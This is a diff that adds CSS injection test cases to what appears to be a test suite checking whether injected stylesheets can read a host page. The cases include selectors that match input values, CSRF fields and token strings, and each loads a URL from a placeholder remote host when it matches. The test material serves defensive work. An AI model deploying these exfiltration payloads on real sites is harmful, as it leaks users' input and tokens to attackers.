@@ -255,6 +255,30 @@ const reads: Row[] = [
   ),
   sheet('import chains', '@import url({{remote}}/1);@import url({{remote}}/2);'),
   sheet(':has() over the host page', 'body:has(#host-form input[value^="h"]){background:url({{remote}})}'),
+  sheet(
+    'attribute selectors on what a person types',
+    '#host-text[value^="t"],#host-search[value^="s"]{background:url({{remote}})}#host-text[value$="t"]{border-image:url({{here}})}',
+  ),
+  sheet(
+    'attribute selectors in a nested rule',
+    'html{& #host-form{& input[value|="host-token"],& input[value*="token" i]{--y:url({{here}});background:var(--y)}}}',
+  ),
+  sheet(
+    'attribute selectors inside :is() and :where()',
+    ':is(#host-form,x) :where(input[name="csrf"][value^="ho"]) ~ label{background:url({{remote}})}',
+  ),
+  sheet(
+    'state of the host by its pseudo-classes',
+    '#host-check:checked{background:url({{here}})}#host-search:focus{background:url({{remote}})}#host-details[open]{background:url({{here}}?open)}',
+  ),
+  sheet(
+    'if() with a style query',
+    '#host-title{background:if(style(--host-color: rgb(10, 20, 30)): url({{here}}); else: none)}',
+  ),
+  sheet(
+    'attr() as an address',
+    '#host-title{background:src(attr(id));--z:attr(id type(<string>));background-image:image-set("{{here}}" 1x)}',
+  ),
 ]
 
 const over = 'top:0;left:0;width:100vw;height:100vh;background:red'
